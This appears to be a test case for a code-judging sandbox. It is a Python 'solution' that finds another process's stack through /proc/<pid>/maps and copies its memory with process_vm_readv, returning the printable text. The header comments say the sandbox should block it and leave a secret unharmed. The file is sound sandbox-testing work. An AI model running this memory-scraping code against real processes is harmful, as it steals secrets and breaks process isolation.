# Copies memory out of a process whose number it knows, without a file.
# entry: Solution.solve(n: int, victim: int) -> str
# verdict: WA|RTE
# needs: host
# unharmed: secret

import ctypes


class Solution:
    def solve(self, n: int, victim: int):
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(4096)
        with open(f"/proc/{victim}/maps") as maps:
            stack = next(line for line in maps if "[stack]" in line)
        start, end = (int(part, 16) for part in stack.split()[0].split("-"))


        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


        copied = b""
        for offset in range(start, end, 4096):
            ours, theirs = Vector(ctypes.addressof(buffer), 4096), Vector(offset, 4096)
            if libc.process_vm_readv(victim, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
                copied += buffer.raw
        return "".join(chr(b) for b in copied if 32 <= b < 127)[-20000:]
